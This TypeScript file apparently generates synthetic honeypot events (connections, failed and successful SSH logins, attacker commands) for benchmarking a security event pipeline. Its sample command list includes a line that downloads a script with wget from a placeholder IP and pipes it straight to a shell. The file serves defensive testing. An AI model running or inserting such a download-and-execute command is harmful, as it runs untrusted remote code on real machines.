/** Synthetic honeypot events for bench/pipeline.ts. */
import type { AnyEvent, HoneypotRef } from '../src/core/events.js';
import { makeEvent } from '../src/core/events.js';


const CMDS = ['uname -a', 'cat /proc/cpuinfo', 'cd /tmp; wget http://198.51.100.9/x.sh | sh', 'chmod +x x.sh', 'ls -la'];

function ipOf(n: number): string {
  return `${(n >>> 24) & 255 || 11}.${(n >>> 16) & 255}.${(n >>> 8) & 255}.${n & 255}`;
}

function ref(src: string, service: string, port: number): HoneypotRef {
  return { service, src_ip: src, src_port: 40000, dst_ip: '192.0.2.1', dst_port: port, protocol: 'tcp' };
}

/** A realistic mix: 50% connects (decoys and real ports), 40% auths, 10% commands, from `attackers` sources. */
export function syntheticEvent(i: number, attackers: number, now: number): AnyEvent {
  const a = (Math.imul(i, 2654435761) >>> 0) % attackers;
  const src = ipOf(0x0b000000 + a);
  const k = i % 10;
  const opts = { sensor: `sensor-${a % 4}`, now, src: { ip: src }, session: `s${a}` };
  if (k < 5) {
    const port = 1000 + (i % 50);
    return makeEvent('honeypot.connect', { ...ref(src, 'decoy', 30000 + (i % 50)), decoy: port }, opts) as AnyEvent;
  }
  if (k < 9) return makeEvent('honeypot.auth', { ...ref(src, 'ssh', 22), method: 'password', username: `user${i % 50}`, password: `pw${i % 1000}`, success: false }, opts) as AnyEvent;
  return makeEvent('honeypot.command', { ...ref(src, 'ssh', 22), input: CMDS[Math.floor(i / 10) % CMDS.length]!, known: true }, opts) as AnyEvent;
}

/** A successful login from a source used once (the honeypot-login rule fires on it alone). */
export function loginEvent(i: number, now: number): AnyEvent {
  const src = ipOf(0x0c000000 + i);
  return makeEvent('honeypot.auth', { ...ref(src, 'ssh', 22), method: 'password', username: 'root', password: 'root', success: true }, { sensor: 'sensor-0', now, src: { ip: src } }) as AnyEvent;
}

/** One connect from the i-th of a million distinct sources. */
export function uniqueSourceEvent(i: number, now: number): AnyEvent {
  const src = ipOf(0x0d000000 + i);
  return makeEvent('honeypot.connect', ref(src, 'ssh', 22), { sensor: 'sensor-0', now: now + i, src: { ip: src } }) as AnyEvent;
}

export function percentile(values: number[], q: number): number {
  if (values.length === 0) return NaN;
  const s = [...values].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.ceil(s.length * q) - 1)]!;
}
